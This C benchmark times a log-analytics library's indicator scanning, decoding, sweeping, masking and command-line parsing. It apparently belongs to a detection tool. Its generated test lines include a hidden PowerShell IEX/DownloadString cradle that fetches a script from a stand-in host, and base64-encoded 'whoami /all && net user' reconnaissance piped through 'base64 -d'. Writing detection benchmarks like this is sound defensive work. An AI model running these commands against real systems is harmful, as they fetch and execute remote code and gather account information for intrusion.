/* b_indicators.c - what indicators, decoding, sweeping and masking cost.
 *
 * Prints one line per figure, over generated command lines: megabytes or
 * things a second of processor time on one core, the best of five. */
#include <stdio.h>
#include <time.h>

#include "analytics/cmdline.h"
#include "analytics/decode.h"
#include "analytics/ioc.h"
#include "analytics/mask.h"
#include "analytics/sweep.h"
#include "base/base64.h"

enum { LINES = 200000, REPEAT = 5, INDICATORS = 100000 };

static double now(void)
{
    struct timespec t;
    clock_gettime(CLOCK_THREAD_CPUTIME_ID, &t);
    return (double)t.tv_sec + (double)t.tv_nsec / 1e9;
}

/* Lines of logs: most have no indicator, some several. */
static str line(struct arena *a, unsigned i)
{
    switch (i % 8) {
    case 0:
        return arena_fmt(a, "powershell.exe -nop -w hidden -c \"IEX (New-Object"
                         " Net.WebClient).DownloadString('http://cdn%u.example"
                         ".net/a/%u.ps1')\"", i % 977, i);
    case 1:
        return arena_fmt(a, "Connection from 10.%u.%u.%u port %u closed by "
                         "peer", i % 250, i % 241, i % 239, i % 60000);
    case 2:
        return arena_fmt(a, "MD5=%08x%08x%08x%08x,Image=C:\\Users\\u%u\\x.exe",
                         i * 2654435761u, i * 40503u + 7, ~i * 2246822519u,
                         i ^ 0xdeadbeefu, i % 500);
    default:
        return arena_fmt(a, "C:\\Windows\\System32\\svchost.exe -k netsvcs -p "
                         "-s Schedule /session:%u /token:%08x", i, i * 7919u);
    }
}

static str *lines(struct arena *a, size_t *bytes)
{
    str *v = arena_array(a, LINES, sizeof *v);
    *bytes = 0;
    for (unsigned i = 0; i < LINES; i++) {
        v[i] = line(a, i);
        *bytes += v[i].n;
    }
    return v;
}

static void bench_iocs(const str *v, size_t bytes)
{
    double best = 1e9;
    size_t found = 0;
    for (int r = 0; r < REPEAT; r++) {
        struct arena *a = arena_new(), *tmp = arena_new();
        struct ioc_opts o = { 0 };
        struct ioc_scanner *s = ioc_scanner_new(a, &o);
        const struct ioc *f;
        double from = now();
        found = 0;
        for (size_t i = 0; i < LINES; i++) {
            size_t n = ioc_scan(s, tmp, v[i], &f);
            found += n;
            if (n)
                arena_reset(tmp);
        }
        double took = now() - from;
        best = took < best ? took : best;
        arena_free(tmp);
        arena_free(a);
    }
    printf("iocs: %.0f MB/s, %.2f million lines/s, %zu found\n",
           (double)bytes / best / 1e6, LINES / best / 1e6, found);
}

static void bench_decode(void)
{
    enum { HITS = 50000 };
    struct arena *a = arena_new();
    str *v = arena_array(a, HITS, sizeof *v);
    double best = 1e9;
    size_t found = 0;
    for (unsigned i = 0; i < HITS; i++) {
        struct buf b;
        buf_init(&b, 4096);
        base64_encode(&b, arena_fmt(a, "whoami /all && net user u%u", i));
        v[i] = arena_fmt(a, "bash -c \"echo %.*s | base64 -d\"",
                         STRF(buf_str(&b)));
        buf_release(&b);
    }
    for (int r = 0; r < REPEAT; r++) {
        struct decode_opts o = { 0 };
        struct decoder *d = decoder_new(&o, NULL);
        struct arena *tmp = arena_new();
        const struct decoded *f;
        double from = now();
        found = 0;
        for (size_t i = 0; i < HITS; i++) {
            found += decode_text(d, tmp, v[i], &f);
            arena_reset(tmp);
        }
        double took = now() - from;
        best = took < best ? took : best;
        decoder_free(d);
        arena_free(tmp);
    }
    printf("decode: %.0f thousand hits/s with three digests each\n",
           (double)found / best / 1e3);
    arena_free(a);
}

static void bench_decode_none(const str *v, size_t bytes)
{
    struct decode_opts o = { 0 };
    struct decoder *d = decoder_new(&o, NULL);
    struct arena *tmp = arena_new();
    const struct decoded *f;
    size_t found = 0;
    double from = now();
    for (size_t i = 0; i < LINES; i++)
        found += decode_text(d, tmp, v[i], &f);
    printf("decode: %.0f MB/s where little is encoded (%zu found)\n",
           (double)bytes / (now() - from) / 1e6, found);
    decoder_free(d);
    arena_free(tmp);
}

static void count(void *ctx, const struct sweep_hit *h)
{
    (void)h;
    ++*(size_t *)ctx;
}

static void bench_sweep(const str *v, size_t bytes)
{
    struct arena *a = arena_new();
    str *w = arena_array(a, INDICATORS, sizeof *w);
    double best = 1e9;
    size_t found = 0;
    for (unsigned i = 0; i < INDICATORS; i++)
        w[i] = i % 2 ? arena_fmt(a, "host%u.evil%u.net", i, i % 991)
                     : arena_fmt(a, "10.%u.%u.%u", i % 256, i / 256 % 256,
                                 i / 65536);
    double from = now();
    struct sweep *s = sweep_new(a, w, INDICATORS);
    double made = now() - from;
    for (int r = 0; r < REPEAT; r++) {
        from = now();
        found = 0;
        for (size_t i = 0; i < LINES; i++)
            sweep_text(s, v[i], count, &found);
        double took = now() - from;
        best = took < best ? took : best;
    }
    printf("sweep: %.0f MB/s for %d indicators (%zu found), made in %.0f ms\n",
           (double)bytes / best / 1e6, INDICATORS, found, made * 1e3);
    arena_free(a);
}

static void bench_mask(const str *v, size_t bytes)
{
    struct arena *a = arena_new();
    struct masker *m = masker_new(a, S("a key of the case"));
    struct buf b;
    buf_init(&b, 1 << 20);
    double from = now();
    for (size_t i = 0; i < LINES / 10; i++) {
        b.n = 0;
        mask_text(m, &b, v[i]);
    }
    printf("mask: %.1f MB/s, %.0f thousand lines/s\n",
           (double)bytes / 10 / (now() - from) / 1e6,
           LINES / 10 / (now() - from) / 1e3);
    buf_release(&b);
    arena_free(a);
}

static void bench_cmdline(const str *v)
{
    struct arena *a = arena_new();
    struct cmdline c;
    double from = now();
    for (size_t i = 0; i < LINES / 4; i++) {
        cmdline_parse(a, v[i], CMDLINE_AUTO, &c);
        arena_reset(a);
    }
    printf("cmdline: %.0f thousand lines/s\n",
           LINES / 4 / (now() - from) / 1e3);
    arena_free(a);
}

int main(void)
{
    struct arena *a = arena_new();
    size_t bytes;
    const str *v = lines(a, &bytes);
    bench_iocs(v, bytes);
    bench_decode();
    bench_decode_none(v, bytes);
    bench_sweep(v, bytes);
    bench_mask(v, bytes);
    bench_cmdline(v);
    arena_free(a);
    return 0;
}
